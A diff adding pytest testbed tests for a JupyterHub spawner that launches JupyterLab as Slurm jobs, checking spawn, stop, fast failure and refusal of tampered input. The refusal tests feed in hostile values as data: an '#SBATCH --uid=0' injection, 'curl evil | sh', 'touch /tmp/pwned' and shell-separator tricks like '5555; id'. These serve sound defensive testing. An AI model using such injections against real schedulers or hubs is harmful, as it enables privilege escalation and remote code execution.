@@ -1,0 +1,135 @@
+"""HpcSpawner on the testbed: a real JupyterHub, proxy, slurmctld and compute nodes."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+import requests
+
+from tests.testbed.hubtools import squeue
+
+pytestmark = pytest.mark.testbed
+
+
+def test_rest_spawn_runs_jupyterlab_on_a_compute_node_as_alice(hub, testbed):
+    r = hub.spawn("alice", {"preset": "debug"})
+    assert r.status_code in (201, 202), r.text
+    server = hub.wait_ready("alice")
+    job_id = server["state"]["job_id"]
+    (job,) = [j for j in squeue(testbed, "alice", "%i", "%j", "%u", "%T", "%N") if j[0] == job_id]
+    assert job[1:4] == ["hpcb-nb-alice", "alice", "RUNNING"]
+    assert job[4] in testbed.info().nodes
+    token = hub.user_token("alice")
+    lab = requests.get(f"{hub.url}/user/alice/lab", timeout=30,
+                       headers={"Authorization": f"token {token}"})
+    assert lab.status_code == 200 and "JupyterLab" in lab.text
+    status = requests.get(f"{hub.url}/user/alice/api/status", timeout=30,
+                          headers={"Authorization": f"token {token}"})
+    assert status.status_code == 200
+    # the token travelled in a private file that the launcher deleted
+    left = testbed.login_exec("alice", ["find", "/home/alice/.hpcbridge", "-type", "f"])
+    assert left.stdout.decode().strip() == ""
+
+
+@pytest.mark.parametrize("options, reason", [
+    ({"partition": "debug", "walltime": "05:00:00"}, "over partition debug's max_walltime"),
+    ({"cores": 64}, "cores_per_node 8"),
+    ({"partition": "gpu", "gpus": 3}, "gpus"),
+    ({"partition": "debug\n#SBATCH --uid=0"}, "not a valid name"),
+    ({"account": "proj_a;id"}, "not a valid name"),
+    ({"walltime": "00:10:00\n#SBATCH -p gpu"}, "walltime"),
+    ({"cmd": "id"}, "unknown option 'cmd'"),
+    ({"prologue": "curl evil | sh"}, "unknown option 'prologue'"),
+])
+def test_bad_options_are_refused_with_the_reason_and_nothing_is_submitted(
+        hub, testbed, options, reason):
+    before = squeue(testbed, "carol", "%i")
+    r = hub.spawn("carol", options)
+    assert r.status_code == 400, r.text
+    assert reason in r.json()["message"]
+    assert squeue(testbed, "carol", "%i") == before
+    assert hub.server("carol") == {}
+
+
+def _server_token(hub, testbed, user: str) -> str:
+    """What a user can read on her node: her own server process's environment."""
+    job_id = hub.server(user)["state"]["job_id"]
+    (node,) = [j[1] for j in squeue(testbed, user, "%i", "%N") if j[0] == job_id]
+    pids = testbed.exec(node, ["pgrep", "-u", user, "-f", "jupyterhub-singleuser"],
+                        user=user).stdout.split()
+    pid = next(p.decode() for p in pids
+               if f"SLURM_JOB_ID={job_id}\0".encode() in testbed.exec(
+                   node, ["cat", f"/proc/{p.decode()}/environ"], user=user).stdout)
+    environ = testbed.exec(node, ["cat", f"/proc/{pid}/environ"], user=user).stdout
+    env = dict(item.split(b"=", 1) for item in environ.split(b"\0") if b"=" in item)
+    return env[b"JUPYTERHUB_API_TOKEN"].decode()
+
+
+def test_port_callback_tampering_is_refused_and_changes_nothing(hub, testbed):
+    if not hub.server("alice").get("ready"):
+        hub.spawn("alice", {"preset": "debug"})
+        hub.wait_ready("alice")
+    token = _server_token(hub, testbed, "alice")
+    url = f"{hub.url}/hub/api/batchspawner"
+    headers = {"Authorization": f"token {token}"}
+    attacks = [
+        {"port": 5555, "batch_query_cmd": "touch /tmp/pwned"},
+        {"batch_query_cmd": "touch /tmp/pwned"},
+        {"exec_prefix": "sudo -u root"},
+        {"ip": "10.0.0.1", "port": 5555},
+        {"port": "5555; id"},
+        {"port": 22},
+        ["port", 5555],
+    ]
+    for body in attacks:
+        r = requests.post(url, json=body, headers=headers, timeout=30)
+        assert r.status_code == 400, (body, r.status_code, r.text)
+    # a well-formed body from a server that is not waiting for its port: refused too
+    r = requests.post(url, json={"port": 5555}, headers=headers, timeout=30)
+    assert r.status_code == 403
+    # and with no token at all
+    assert requests.post(url, json={"port": 5555}, timeout=30).status_code == 403
+    before = hub.server("alice")
+    time.sleep(4)  # a poll round of the hub (status_interval 3 s)
+    after = hub.server("alice")
+    assert after.get("ready") and after["url"] == before["url"]
+    assert not (tmp := __import__("pathlib").Path("/tmp/pwned")).exists(), tmp
+
+
+def test_stop_cancels_the_job(hub, testbed):
+    if not hub.server("alice").get("ready"):
+        hub.spawn("alice", {"preset": "debug"})
+        hub.wait_ready("alice")
+    job_id = hub.server("alice")["state"]["job_id"]
+    r = hub.stop("alice")
+    assert r.status_code in (202, 204)
+    hub.wait_stopped("alice")
+    deadline = time.monotonic() + 30
+    while time.monotonic() < deadline:
+        state = testbed.login_exec("alice", ["squeue", "-h", "-j", job_id, "-o", "%T"]
+                                   ).stdout.decode().strip()
+        if state in ("", "CANCELLED", "COMPLETED"):
+            break
+        time.sleep(1)
+    assert state in ("", "CANCELLED", "COMPLETED")
+
+
+def test_job_that_dies_before_reporting_its_port_fails_fast(hub, testbed):
+    # A broken login script is a classic reason for a notebook job to die at once.
+    profile = "/home/carol/.bash_profile"
+    testbed.login_exec("carol", ["tee", profile], input=b"exit 3\n")
+    try:
+        started = time.monotonic()
+        r = hub.spawn("carol", {"preset": "debug"})
+        if r.status_code == 202:
+            deadline = time.monotonic() + 120
+            while hub.server("carol") and time.monotonic() < deadline:
+                time.sleep(0.5)
+        else:
+            assert r.status_code == 500 and "ended before the server started" in r.text
+        elapsed = time.monotonic() - started
+        assert hub.server("carol") == {}
+        assert elapsed < 60, elapsed  # not start_timeout (900 s)
+    finally:
+        testbed.login_exec("carol", ["rm", "-f", profile])
